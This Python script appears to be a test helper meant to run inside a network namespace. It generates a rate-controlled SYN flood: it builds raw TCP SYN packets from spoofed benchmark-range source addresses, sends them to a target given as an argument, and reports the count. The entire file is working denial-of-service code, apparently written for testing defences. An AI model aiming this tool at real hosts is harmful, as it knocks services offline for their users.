"""What is a SYN flood made of? A process that sends SYNs from made-up addresses through a raw socket, at a rate, and
prints how many it sent. Run as a script inside a namespace: it knows nothing of the package.

Arguments: the process's name, the target's address and port, how many SYNs, how many a second. It ends early with its
stdin."""

import random
import select
import socket
import struct
import sys
import time
from pathlib import Path

SOURCES = 0xC6120000  # 198.18.0.0/15, set aside for benchmarks (RFC 2544): nobody real is ever answered
BATCH_S = 0.005
BATCH = 500  # at the most: where the machine is too slow for the rate, the end must not be overlooked


def packets(address: str, port: int, count: int, draw: random.Random) -> list[bytes]:
    """SYNs with an MSS option, each with a source of its own."""
    target = int.from_bytes(socket.inet_aton(address))
    made = []
    for _ in range(count):
        source, near = SOURCES | draw.getrandbits(17), draw.randrange(1024, 65536)
        sequence = draw.getrandbits(32)
        segment = (near, port, sequence, 0, 0x6002, 64240)
        option = (2, 4, 1460)
        pseudo = struct.pack("!IIHH", source, target, socket.IPPROTO_TCP, 24)
        sum_ = checksum(pseudo + struct.pack("!HHIIHHHH", *segment, 0, 0) + struct.pack("!BBH", *option))
        ip = struct.pack("!BBHHHBBHII", 0x45, 0, 44, 0, 0x4000, 64, socket.IPPROTO_TCP, 0, source, target)
        made.append(ip + struct.pack("!HHIIHHHH", *segment, sum_, 0) + struct.pack("!BBH", *option))
    return made


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def main() -> None:
    name, address, port, most, rate = sys.argv[1], sys.argv[2], *map(int, sys.argv[3:6])
    Path("/proc/self/comm").write_text(name)
    made = packets(address, port, min(most, 50_000), random.Random(23))
    sent = 0
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        sys.stdout.write("ready\n")
        sys.stdout.flush()
        begin = time.monotonic()
        while sent < most and not select.select([sys.stdin], [], [], 0)[0]:
            due = min(most, int((time.monotonic() - begin) * rate) + 1)
            for i in range(sent, min(due, sent + BATCH)):
                raw.sendto(made[i % len(made)], (address, 0))
                sent = i + 1
            if sent >= due:
                time.sleep(BATCH_S)
    sys.stdout.write(f"{sent}\n")


main()
